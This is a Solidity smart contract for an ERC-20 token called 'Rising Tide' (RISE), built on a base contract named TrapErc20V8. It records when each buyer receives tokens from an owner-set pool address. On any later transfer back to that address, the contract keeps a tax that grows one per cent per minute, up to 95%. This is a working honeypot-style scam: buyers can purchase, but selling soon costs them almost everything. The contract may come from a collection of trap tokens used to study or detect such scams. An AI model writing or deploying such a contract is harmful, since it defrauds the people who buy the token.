// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// A tax of nothing at the purchase, one per cent more with every minute, up to ninety-five.
contract RisingTide is TrapErc20V8 {
    mapping(address => uint256) private boughtAt;
    address private harbour;

    constructor() TrapErc20V8("Rising Tide", "RISE", 10_000_000 ether) {}

    function moor(address harbour_) external onlyOwner {
        harbour = harbour_;
    }

    function taxOf(address who) public view returns (uint256 percent) {
        if (boughtAt[who] == 0) return 0;
        percent = (block.timestamp - boughtAt[who]) / 1 minutes;
        if (percent > 95) percent = 95;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == harbour) boughtAt[to] = block.timestamp;
        uint256 tax = to == harbour ? value * taxOf(from) / 100 : 0;
        if (tax > 0) super._transfer(from, address(this), tax);
        super._transfer(from, to, value - tax);
    }
}
